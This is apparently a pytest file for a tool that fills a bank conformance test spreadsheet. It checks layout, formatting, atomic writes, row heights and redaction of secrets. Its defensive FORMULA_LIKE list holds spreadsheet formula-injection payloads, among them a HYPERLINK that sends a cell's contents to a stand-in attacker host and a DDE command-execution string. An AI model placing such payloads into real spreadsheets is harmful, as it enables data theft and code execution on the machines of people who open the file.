"""The filled sheet: results in the original layout, formatting kept, run metadata added,
sandbox runs marked, written atomically; LibreOffice can open it. Free text is stored as
text (never a formula), redacted, and rows grow so a printed copy has no overlapping rows."""

from __future__ import annotations

import html
import itertools
import os
import re
import shutil
import statistics
import subprocess
from copy import copy
from pathlib import Path

import jwt
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from pypdf import PdfReader
from sheet_layouts import BUNDLED_SHEET, LAYOUTS, build_layout

from conformance.errors import SheetError
from conformance.models import CaseResult, CaseSpec, Outcome
from conformance.sheet import read_sheet
from conformance.sheet_writer import (
    MAX_CELL_CHARS,
    RUN_SHEET,
    SANDBOX_BANNER,
    STATUS_FILLS,
    safe_cell_text,
    write_filled_sheet,
)

BANK = {"orgnr": "910000004", "name": "Testbank AS"}
OUTCOMES = [Outcome.PASSED, Outcome.FAILED, Outcome.ERROR, Outcome.NOT_AUTOMATED, Outcome.NOT_RUN]


def result_for(case: CaseSpec, outcome: Outcome, **extra) -> CaseResult:
    return CaseResult(
        case_id=case.case_id,
        title=case.title,
        expected=case.expected,
        outcome=outcome,
        row=case.row,
        manual=case.manual,
        **extra,
    )


def results_for(cases: list[CaseSpec]) -> list[CaseResult]:
    results = []
    for index, case in enumerate(cases):
        if case.manual:
            results.append(result_for(case, Outcome.PENDING))
            continue
        outcome = OUTCOMES[index % len(OUTCOMES)]
        ran = outcome in (Outcome.PASSED, Outcome.FAILED, Outcome.ERROR)
        results.append(
            result_for(
                case,
                outcome,
                actual=f"HTTP {case.expected.status}" if ran else "",
                message="Svaret var HTTP 500" if outcome == Outcome.FAILED else "",
                correlation_ids=[f"00000000-0000-4000-8000-00000000000{index % 10}", "cid-2"]
                if ran
                else [],
                started_at="2026-11-23T09:00:00Z" if ran else None,
                finished_at="2026-11-23T09:00:01.5Z" if ran else None,
                comment="Kjørt automatisk" if ran else "",
            )
        )
    return results


def style(cell, *names: str) -> list[object]:
    # Cell style attributes are proxies that compare by identity; compare copies instead.
    return [copy(getattr(cell, name)) for name in names]


def fill(info, results, out: Path, environment: str = "sandbox") -> Path:
    write_filled_sheet(
        info,
        results,
        out,
        run_by="Kari Tester",
        environment=environment,
        run_id="20261123T090000Z-abc123",
        bank=BANK,
    )
    return out


def test_results_land_in_the_matching_columns_and_rows(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    results = results_for(cases)
    ws = load_workbook(fill(info, results, tmp_path / "utfylt.xlsx"))[info.worksheet]
    col = info.columns
    for case, result in zip(cases, results, strict=True):
        status = ws.cell(row=case.row, column=col["status"])
        assert ws.cell(row=case.row, column=col["id"]).value == case.case_id
        assert status.value == result.outcome.label_nb
        assert status.fill.fgColor.rgb.endswith(STATUS_FILLS[result.outcome])
        correlation = ws.cell(row=case.row, column=col["correlation_id"]).value
        assert correlation == (", ".join(result.correlation_ids) or None)
        executed_by = ws.cell(row=case.row, column=col["executed_by"]).value
        date = ws.cell(row=case.row, column=col["date"]).value
        if result.outcome in (Outcome.PASSED, Outcome.FAILED, Outcome.ERROR):
            assert executed_by == "Kari Tester"
            assert date.date().isoformat() == "2026-11-23"
            assert ws.cell(row=case.row, column=col["comment"]).value == "Kjørt automatisk"
        else:
            assert executed_by is None and date is None
    failed = next(r for r in results if r.outcome == Outcome.FAILED)
    actual = ws.cell(row=failed.row, column=col["actual"]).value
    assert actual == f"{failed.actual}\nSvaret var HTTP 500"
    manual = next(c for c in cases if c.manual)
    assert ws.cell(row=manual.row, column=col["status"]).value == "Manuell – venter på bekreftelse"


def test_original_formatting_merges_validation_and_other_sheets_survive(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    original = load_workbook(BUNDLED_SHEET)
    filled = load_workbook(
        fill(info, results_for(cases), tmp_path / "utfylt.xlsx", environment="test")
    )
    assert filled.sheetnames == [*original.sheetnames, RUN_SHEET]
    for name in original.sheetnames:
        before, after = original[name], filled[name]
        assert {str(r) for r in before.merged_cells.ranges} == {
            str(r) for r in after.merged_cells.ranges
        }
        for letter, dim in before.column_dimensions.items():
            assert after.column_dimensions[letter].width == dim.width
        # Every cell the original had keeps its value and its font, fill and border.
        for row in before.iter_rows():
            for cell in row:
                twin = after[cell.coordinate]
                if cell.value is not None:
                    assert twin.value == cell.value, cell.coordinate
                if cell.column != info.columns["status"]:  # status cells are coloured on purpose
                    assert style(twin, "font", "fill") == style(cell, "font", "fill"), (
                        cell.coordinate
                    )
                assert style(twin, "border", "alignment") == style(cell, "border", "alignment")
    before_dv = original[info.worksheet].data_validations.dataValidation
    after_dv = filled[info.worksheet].data_validations.dataValidation
    assert [(str(v.sqref), v.formula1) for v in after_dv] == [
        (str(v.sqref), v.formula1) for v in before_dv
    ]
    assert filled[info.worksheet].freeze_panes == original[info.worksheet].freeze_panes


def test_run_sheet_has_metadata_and_counts(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    results = results_for(cases)
    ws = load_workbook(fill(info, results, tmp_path / "utfylt.xlsx", environment="test"))[RUN_SHEET]
    values = {row[0]: row[1] for row in ws.iter_rows(values_only=True) if row[0]}
    assert values["Organisasjonsnummer"] == "910000004"
    assert values["Bank"] == "Testbank AS"
    assert values["Miljø"] == "test"
    assert values["Kjøring (run id)"] == "20261123T090000Z-abc123"
    assert values["Arkversjon"] == "1.0"
    assert values["Arkets SHA-256"] == info.sha256
    assert values["Antall testtilfeller"] == 22
    assert values["OK"] == sum(r.outcome == Outcome.PASSED for r in results)
    assert values["Manuell – venter på bekreftelse"] == 2
    texts = [
        c
        for row in load_workbook(tmp_path / "utfylt.xlsx").worksheets
        for r in row.iter_rows(values_only=True)
        for c in r
    ]
    assert SANDBOX_BANNER not in texts  # a run against KFR test is not marked as sandbox


def test_sandbox_run_is_marked_on_the_run_sheet_and_above_the_header(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    wb = load_workbook(fill(info, results_for(cases), tmp_path / "utfylt.xlsx"))
    run = wb[RUN_SHEET]
    assert run["A1"].value == SANDBOX_BANNER
    assert "SANDBOX" in next(r[1] for r in run.iter_rows(values_only=True) if r[0] == "Miljø")
    ws = wb[info.worksheet]
    banner_row = info.header_row - 1  # the bundled sheet leaves row 3 empty for this
    assert ws.cell(row=banner_row, column=1).value == SANDBOX_BANNER
    assert f"A{banner_row}:L{banner_row}" in {str(r) for r in ws.merged_cells.ranges}


def test_sandbox_banner_only_on_run_sheet_when_no_room_above_header(tmp_path: Path) -> None:
    # Header in row 1: nothing above it to write into.
    path = build_layout(tmp_path / "flat.xlsx", LAYOUTS["integer_ids"])
    info, cases = read_sheet(path)
    assert info.header_row == 1
    wb = load_workbook(fill(info, results_for(cases), tmp_path / "utfylt.xlsx"))
    assert wb[RUN_SHEET]["A1"].value == SANDBOX_BANNER
    assert wb[info.worksheet].cell(row=1, column=1).value == "Testcase-ID"
    assert (
        sum(c == SANDBOX_BANNER for r in wb[info.worksheet].iter_rows(values_only=True) for c in r)
        == 0
    )


def test_missing_result_columns_are_added_right_of_the_header_in_its_style(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["Nr", "Beskrivelse", "Forventet resultat", "Status"])
    for cell in ws[1]:
        cell.font = Font(bold=True, color="FF0000")
    ws.append([1, "Token fra Maskinporten", "HTTP 200 OK", None])
    ws.append([2, "Registrer kundeforhold for D-nummer", "HTTP 201 Created", None])
    ws["F1"] = "Intern referanse"  # beyond the header: new columns go right of it
    path = tmp_path / "smalt.xlsx"
    wb.save(path)
    info, cases = read_sheet(path)
    results = [
        result_for(cases[0], Outcome.PASSED, actual="HTTP 200", correlation_ids=["c-1"]),
        result_for(cases[1], Outcome.FAILED, actual="HTTP 400", message="Feil status"),
    ]
    filled = load_workbook(fill(info, results, tmp_path / "utfylt.xlsx"))[info.worksheet]
    headers = [c.value for c in filled[1]]
    assert headers == [
        "Nr",
        "Beskrivelse",
        "Forventet resultat",
        "Status",
        None,
        "Intern referanse",
        "Faktisk resultat",
        "Kommentar",
        "Dato",
        "Utført av",
        "CorrelationID",
    ]
    assert all(filled.cell(row=1, column=c).font.b for c in range(7, 12))
    assert filled.cell(row=1, column=11).font.color.rgb.endswith("FF0000")
    assert [filled.cell(row=2, column=c).value for c in (4, 7, 11)] == ["OK", "HTTP 200", "c-1"]
    assert [filled.cell(row=3, column=c).value for c in (4, 7)] == [
        "Feilet",
        "HTTP 400\nFeil status",
    ]


def test_integer_ids_and_duplicate_ids_find_their_rows(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["ID", "Beskrivelse", "Forventet resultat", "Status"])
    ws.append([1, "Token fra Maskinporten", "HTTP 200 OK"])
    ws.append([1, "Samme ID en gang til", "HTTP 200 OK"])
    path = tmp_path / "dup.xlsx"
    wb.save(path)
    info, cases = read_sheet(path)
    assert [c.case_id for c in cases] == ["1", "1 (rad 3)"]
    results = [result_for(cases[0], Outcome.PASSED), result_for(cases[1], Outcome.FAILED)]
    filled = load_workbook(fill(info, results, tmp_path / "utfylt.xlsx"))[info.worksheet]
    assert [filled.cell(row=r, column=4).value for r in (2, 3)] == ["OK", "Feilet"]


def test_failure_leaves_an_existing_output_untouched_and_no_temp_files(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    out = tmp_path / "utfylt.xlsx"
    out.write_bytes(b"forrige kjoring")
    stranger = result_for(cases[0], Outcome.PASSED)
    stranger.case_id, stranger.row = "KFR-77", 0
    with pytest.raises(SheetError, match="KFR-77"):
        fill(info, [stranger], out)
    assert out.read_bytes() == b"forrige kjoring"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["utfylt.xlsx"]


def test_original_changed_since_reading_is_refused(tmp_path: Path) -> None:
    copy = tmp_path / "ark.xlsx"
    shutil.copy(BUNDLED_SHEET, copy)
    info, cases = read_sheet(copy)
    wb = load_workbook(copy)
    wb["Testtilfeller"]["C6"] = "Endret av noen"
    wb.save(copy)
    with pytest.raises(SheetError, match="endret etter at det ble lest"):
        fill(info, results_for(cases), tmp_path / "utfylt.xlsx")
    assert not (tmp_path / "utfylt.xlsx").exists()


def test_filled_sheet_reads_back_to_the_same_cases(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    refilled_info, refilled = read_sheet(fill(info, results_for(cases), tmp_path / "utfylt.xlsx"))
    assert [(c.case_id, c.expected, c.manual) for c in refilled] == [
        (c.case_id, c.expected, c.manual) for c in cases
    ]
    assert refilled_info.version == info.version


@pytest.mark.slow
def test_libreoffice_converts_the_filled_sheet_to_pdf(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    info, cases = read_sheet(BUNDLED_SHEET)
    filled = fill(info, results_for(cases), tmp_path / "utfylt.xlsx")
    profile = tmp_path / "lo-profile"
    env = {**os.environ, "HOME": str(tmp_path)}
    completed = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(filled),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
        check=False,
    )
    pdf = tmp_path / "utfylt.pdf"
    assert pdf.exists(), completed.stdout + completed.stderr
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 2000


# --- safe text: never a formula, never a secret -------------------------------------------

FORMULA_LIKE = [
    "=1+1",
    "=HYPERLINK(\"http://angriper.example/?d=\"&A1,\"Klikk\")",
    "+47 22 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _free_text_results(cases: list[CaseSpec], texts: list[str]) -> list[CaseResult]:
    results = []
    for case, text in zip(cases, texts * len(cases), strict=False):
        results.append(
            result_for(
                case,
                Outcome.FAILED,
                actual=text,
                message=f"Svar: {text}",
                comment=text,
                confirmed_by=text if case.manual else None,
                started_at="2026-11-23T09:00:00Z",
            )
        )
    return results


def test_free_text_that_looks_like_a_formula_is_stored_as_text(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    results = _free_text_results(cases, FORMULA_LIKE)
    out = tmp_path / "utfylt.xlsx"
    write_filled_sheet(
        info, results, out, run_by="=HYPERLINK(\"x\")", environment="test",
        run_id="20261123T090000Z-abc123", bank={"orgnr": "910000004", "name": "@Bank"},
    )
    wb = load_workbook(out)  # formulas would come back as data_type "f"
    ws = wb[info.worksheet]
    col = info.columns
    for result in results:
        for role, expected in (
            # Parts are trimmed; a carriage return is a line feed in a workbook.
            ("actual", f"{result.actual.strip()}\n{result.message}".replace("\r", "\n")),
            ("comment", result.comment.replace("\r", "\n")),
        ):
            cell = ws.cell(row=result.row, column=col[role])
            assert (cell.value, cell.data_type) == (expected, "s"), (role, result.case_id)
        if result.actual.startswith(("=", "+", "-", "@", "\t", "\r")):
            # Spreadsheets keep a prefixed cell text also when a person edits it.
            assert ws.cell(row=result.row, column=col["comment"]).quotePrefix
    executed = ws.cell(row=results[0].row, column=col["executed_by"])
    assert (executed.value, executed.data_type) == ("=HYPERLINK(\"x\")", "s")
    run = {row[0].value: row[1] for row in wb[RUN_SHEET].iter_rows() if row[0].value}
    assert (run["Utført av"].value, run["Utført av"].data_type) == ("=HYPERLINK(\"x\")", "s")
    assert (run["Bank"].value, run["Bank"].data_type) == ("@Bank", "s")
    # Nowhere in the workbook is there a formula.
    assert not [
        c.coordinate for sheet in wb.worksheets for r in sheet.iter_rows() for c in r
        if c.data_type == "f"
    ]


def test_secrets_in_free_text_do_not_reach_the_sheet(tmp_path: Path) -> None:
    token = jwt.encode({"sub": "311000004", "scope": "bits:kundeforhold.write"}, "k" * 32)
    info, cases = read_sheet(BUNDLED_SHEET)
    results = _free_text_results(
        cases[:3],
        [
            f'{{"error": "invalid_grant", "error_description": "bad token {token}"}}',
            "Authorization: Bearer abcdef0123456789abcdef",
            "assertion=" + token + "&grant_type=x",
        ],
    )
    out = tmp_path / "utfylt.xlsx"
    write_filled_sheet(info, results, out, run_by=f"Kari {token}", environment="test",
                       run_id="r", bank=BANK)
    texts = "\n".join(
        str(c) for sheet in load_workbook(out).worksheets
        for r in sheet.iter_rows(values_only=True) for c in r if c is not None
    )
    assert token not in texts and token.split(".")[1] not in texts
    assert "abcdef0123456789abcdef" not in texts
    assert texts.count("[REDACTED]") >= 7
    assert "invalid_grant" in texts  # the rest of the message is kept


def test_control_characters_and_huge_texts_are_written_not_refused(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    huge = "x" * (MAX_CELL_CHARS + 5000)
    results = _free_text_results(cases[:2], ["ESC \x1b[31mrød\x1b[0m NUL \x00 slutt", huge])
    out = tmp_path / "utfylt.xlsx"
    write_filled_sheet(info, results, out, run_by="Kari", environment="test", run_id="r",
                       bank=BANK)
    ws = load_workbook(out)[info.worksheet]
    comment_col = info.columns["comment"]
    first = ws.cell(row=results[0].row, column=comment_col).value
    assert first == "ESC \\x1b[31mrød\\x1b[0m NUL \\x00 slutt"
    second = ws.cell(row=results[1].row, column=comment_col).value
    assert len(second) == MAX_CELL_CHARS and second.endswith("hele teksten står i bevisfilen]")
    assert safe_cell_text("=1+1") == "=1+1"  # text is kept as it is, only stored as text


# --- rows fit their text -------------------------------------------------------------------


def _long_text(row: int, kind: str, words: int) -> str:
    """Words that carry their row number, so every printed line tells which row it is from."""
    text = " ".join(f"r{row}{kind}{i}" for i in range(words))
    return text[: len(text) // 2] + "\n" + text[len(text) // 2 :]


def _fitted_results(cases: list[CaseSpec]) -> list[CaseResult]:
    return [
        result_for(
            case,
            Outcome.FAILED,
            actual=_long_text(case.row, "a", 30 + 7 * (i % 4)),
            message=_long_text(case.row, "m", 12),
            comment=_long_text(case.row, "c", 18 + 5 * (i % 3)),
            correlation_ids=[f"00000000-0000-4000-8000-{i:012d}", f"00000000-0000-4000-9000-{i:012d}"],
            started_at="2026-11-23T09:00:00Z",
        )
        for i, case in enumerate(cases)
    ]


def test_rows_grow_to_fit_the_text_written_into_them(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    results = _fitted_results(cases)
    ws = load_workbook(fill(info, results, tmp_path / "utfylt.xlsx"))[info.worksheet]
    for result in results:
        height = ws.row_dimensions[result.row].height
        lines = max(
            len(ws.cell(row=result.row, column=info.columns[role]).value.split("\n"))
            for role in ("actual", "comment")
        )
        assert height is not None and height >= lines * 11 * 1.2, result.case_id
        for role in ("actual", "comment", "correlation_id", "executed_by"):
            assert ws.cell(row=result.row, column=info.columns[role]).alignment.wrap_text


def test_a_taller_original_row_is_not_made_lower(tmp_path: Path) -> None:
    info, cases = read_sheet(BUNDLED_SHEET)
    wb = load_workbook(BUNDLED_SHEET)
    wb[info.worksheet].row_dimensions[cases[0].row].height = 300
    tall = tmp_path / "hoy-rad.xlsx"
    wb.save(tall)
    info, cases = read_sheet(tall)
    ws = load_workbook(fill(info, results_for(cases), tmp_path / "utfylt.xlsx"))[info.worksheet]
    assert ws.row_dimensions[cases[0].row].height == 300


def _pdf_lines(pdf: Path) -> list[tuple[int, float, float, str]]:
    """(page, x, y, text) of every text run LibreOffice drew, in page coordinates."""
    lines: list[tuple[int, float, float, str]] = []
    for number, page in enumerate(PdfReader(pdf).pages):

        def visit(text, cm, tm, _font, _size, number=number):
            if text.strip():
                x = tm[4] * cm[0] + tm[5] * cm[2] + cm[4]
                y = tm[4] * cm[1] + tm[5] * cm[3] + cm[5]
                lines.append((number, round(x, 0), y, text))

        page.extract_text(visitor_text=visit)
    return lines


def _overlaps(lines: list[tuple[int, float, float, str]]) -> list[str]:
    """Rows whose printed lines interleave with another row's in the same column, or come
    closer to them than one line: what a too-low row looks like on paper (its text runs
    into the row below it, or is cut off at its edge)."""
    columns: dict[tuple[int, float], list[tuple[float, int]]] = {}
    for page, x, y, text in lines:
        rows = {int(n) for n in re.findall(r"\br(\d+)[acm]\d+", text)}
        if len(rows) == 1:
            columns.setdefault((page, x), []).append((y, rows.pop()))
    problems = []
    for (page, x), points in columns.items():
        points = sorted(points, key=lambda p: -p[0])  # top to bottom
        pitches = [a[0] - b[0] for a, b in itertools.pairwise(points) if a[1] == b[1]]
        pitch = statistics.median(pitches) if pitches else 0.0
        seen: list[int] = []
        for (y_above, row_above), (y, row) in itertools.pairwise(points):
            if row != row_above and (row in seen or y_above - y < 0.9 * pitch):
                problems.append(f"side {page + 1}, x={x}: rad {row_above} går over i rad {row}")
            seen.append(row_above)
    return problems


def _to_pdf(soffice: str, sheet: Path, out_dir: Path) -> Path:
    env = {**os.environ, "HOME": str(out_dir)}
    completed = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{out_dir / 'lo-profile'}", "--headless",
         "--norestore", "--convert-to", "pdf", "--outdir", str(out_dir), str(sheet)],
        capture_output=True, text=True, timeout=180, env=env, check=False,
    )
    pdf = out_dir / f"{sheet.stem}.pdf"
    assert pdf.exists(), completed.stdout + completed.stderr
    return pdf


@pytest.mark.slow
def test_printed_filled_sheet_has_no_overlapping_rows(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    info, cases = read_sheet(BUNDLED_SHEET)
    filled = fill(info, _fitted_results(cases), tmp_path / "utfylt.xlsx", environment="test")
    # The same sheet with every result row pressed back to one line: the check must see it.
    wb = load_workbook(filled)
    for case in cases:
        wb[info.worksheet].row_dimensions[case.row].height = 15
    squeezed = tmp_path / "klemt.xlsx"
    wb.save(squeezed)

    fitted_lines = _pdf_lines(_to_pdf(soffice, filled, tmp_path))
    squeezed_lines = _pdf_lines(_to_pdf(soffice, squeezed, tmp_path))

    assert _overlaps(squeezed_lines), "the overlap check saw nothing in a squeezed sheet"
    assert _overlaps(fitted_lines) == []
    # Every word written reached the paper.
    printed = " ".join(text for *_, text in fitted_lines)
    for case in cases:
        assert f"r{case.row}a29" in printed and f"r{case.row}c17" in printed


@pytest.mark.slow
def test_libreoffice_shows_formula_like_text_literally(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    info, cases = read_sheet(BUNDLED_SHEET)
    filled = fill(info, _free_text_results(cases, FORMULA_LIKE), tmp_path / "utfylt.xlsx")
    env = {**os.environ, "HOME": str(tmp_path)}
    completed = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         "--norestore", "--convert-to", "html", "--outdir", str(tmp_path), str(filled)],
        capture_output=True, text=True, timeout=180, env=env, check=False,
    )
    page = tmp_path / "utfylt.html"
    assert page.exists(), completed.stdout + completed.stderr
    shown = html.unescape(re.sub(r"<[^>]+>", " ", page.read_text(errors="replace")))
    # What LibreOffice shows is the text itself: a formula would show its result instead
    # (2 for =1+1, "Klikk" for the HYPERLINK, an error for the DDE call).
    for payload in ("=1+1", '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")',
                    "+47 22 00 00 00", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"):
        assert payload in shown, payload
